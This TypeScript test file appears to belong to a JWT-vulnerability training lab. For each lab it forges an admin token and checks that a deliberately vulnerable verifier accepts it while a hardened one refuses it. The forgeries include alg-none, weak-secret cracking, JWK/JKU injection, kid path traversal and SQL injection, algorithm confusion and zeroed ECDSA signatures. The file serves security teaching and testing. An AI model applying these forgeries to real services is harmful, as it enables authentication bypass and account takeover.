/**
 * Every lab solved through its route handlers by the forged token the issue names, then the same
 * token refused by the hardened verifier with the code that names what it refused, and the
 * learner's own token (role "user") answered 403 LAB_NOT_ADMIN.
 */
import { LABS, LAB_SLUGS, type LabSlug } from '@/lib/labs/catalog'
import { expectProblem } from '../../api/helpers'
import {
  adminClaims,
  askAdmin,
  claimsOf,
  crack,
  headerOf,
  labRequest,
  learnerKeyPair,
  routes,
  sign,
  startSession,
  withPayload,
} from './lab-client'

/** How a learner forges an admin token for each lab, from their own session token. */
const forge: Record<LabSlug, (token: string) => Promise<string>> = {
  'unverified-signature': async (token) => withPayload(token, adminClaims(token)),

  'alg-none': (token) => sign({ alg: 'nOnE', typ: 'JWT' }, adminClaims(token)),

  'weak-secret': async (token) => {
    const res = await routes.wordlist.GET(labRequest('/api/labs/weak-secret/wordlist'))
    const secret = crack(token, (await res.text()).split('\n'))
    expect(secret, 'the secret is in the served word list').toBeDefined()
    return sign({ alg: 'HS256', typ: 'JWT' }, adminClaims(token), {
      kind: 'secret',
      value: secret!,
    })
  },

  'jwk-injection': async (token) => {
    const mine = await learnerKeyPair('RS256')
    return sign({ alg: 'RS256', jwk: mine.publicJwk }, adminClaims(token), {
      kind: 'jwk',
      value: mine.privateJwk,
    })
  },

  'jku-injection': async (token) => {
    const mine = await learnerKeyPair('RS256')
    const id = `my-keys-${crypto.randomUUID()}`
    const res = await routes.exploit.PUT(
      labRequest(`/api/labs/exploit-server/${id}`, {
        method: 'PUT',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ keys: [mine.publicJwk] }),
      }),
    )
    expect(res.status).toBe(200)
    const { url } = (await res.json()) as { url: string }
    expect(url).toBe(`http://localhost/api/labs/exploit-server/${id}`)
    return sign({ alg: 'RS256', kid: mine.kid, jku: url }, adminClaims(token), {
      kind: 'jwk',
      value: mine.privateJwk,
    })
  },

  // HMAC pads its key with zeros, so /dev/null's empty key signs like one zero byte ("AA").
  'kid-traversal': (token) =>
    sign({ alg: 'HS256', kid: '../../../../../../dev/null' }, adminClaims(token), {
      kind: 'secret',
      value: 'AA',
      encoding: 'base64url',
    }),

  'kid-sql-injection': (token) =>
    sign({ alg: 'HS256', kid: "nope' UNION SELECT 'my-own-key" }, adminClaims(token), {
      kind: 'secret',
      value: 'my-own-key',
    }),

  'algorithm-confusion': async (token) => {
    const sid = String(claimsOf(token).sid)
    const res = await routes.publicPem.GET(
      labRequest(`/api/labs/algorithm-confusion/public.pem?sid=${sid}`),
    )
    expect(res.status).toBe(200)
    const pem = await res.text()
    expect(pem).toMatch(/^-----BEGIN PUBLIC KEY-----\n/)
    return sign({ alg: 'HS256', typ: 'JWT' }, adminClaims(token), { kind: 'secret', value: pem })
  },

  // r = s = 0: 64 zero bytes.
  'psychic-signature': async (token) => {
    const unsigned = (await sign({ alg: 'none' }, adminClaims(token))).slice(0, -1)
    const header = Buffer.from(JSON.stringify({ alg: 'ES256', typ: 'JWT' })).toString('base64url')
    return `${header}.${unsigned.split('.')[1]}.${'A'.repeat(86)}`
  },
}

describe.each(LAB_SLUGS)('lab %s', (slug) => {
  let token: string
  let forged: string

  beforeAll(async () => {
    token = await startSession(slug)
    forged = await forge[slug](token)
  })

  it('issues a role "user" token naming its instance', () => {
    expect(claimsOf(token)).toMatchObject({
      role: 'user',
      aud: slug,
      iss: `urn:jwt-playground:lab:${slug}`,
      sid: expect.stringMatching(/^[A-Za-z0-9_-]{22}$/),
    })
    expect(headerOf(token).alg).toBe(LABS[slug].alg)
  })

  it('the vulnerable verifier takes the forged token: 200 with the flag', async () => {
    const res = await askAdmin(slug, forged)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('application/json')
    const body = (await res.json()) as Record<string, unknown>
    expect(body).toEqual({ solved: true, lab: slug, flag: expect.stringMatching(/^JWTPG\{/) })
    expect(String(body.flag)).toContain(slug)
  })

  it('the hardened verifier refuses the forged token with its code', async () => {
    const res = await askAdmin(slug, forged, 'hardened')
    await expectProblem(res, 401, LABS[slug].hardenedRefuses[0]!)
    expect(res.headers.get('www-authenticate')).toMatch(/^Bearer /)
  })

  it('the learner’s own token is accepted but not admin (403) by the vulnerable verifier', async () => {
    await expectProblem(await askAdmin(slug, token), 403, 'LAB_NOT_ADMIN')
  })

  if (slug === 'weak-secret') {
    // The fix is a strong key; the hardened server never issued the weak-keyed token.
    it('the hardened verifier refuses the weak-keyed token too (the fix is another key)', async () => {
      await expectProblem(await askAdmin(slug, token, 'hardened'), 401, 'LAB_SIGNATURE_INVALID')
    })
  } else {
    it('the hardened verifier accepts the learner’s own token: 403, not admin', async () => {
      await expectProblem(await askAdmin(slug, token, 'hardened'), 403, 'LAB_NOT_ADMIN')
    })
  }

  it('the flag belongs to the instance: another instance’s token gets another flag', async () => {
    const other = await forge[slug](await startSession(slug))
    const [a, b] = await Promise.all([askAdmin(slug, forged), askAdmin(slug, other)])
    const flags = [(await a.json()).flag, (await b.json()).flag]
    expect(flags[0]).not.toBe(flags[1])
  })
})
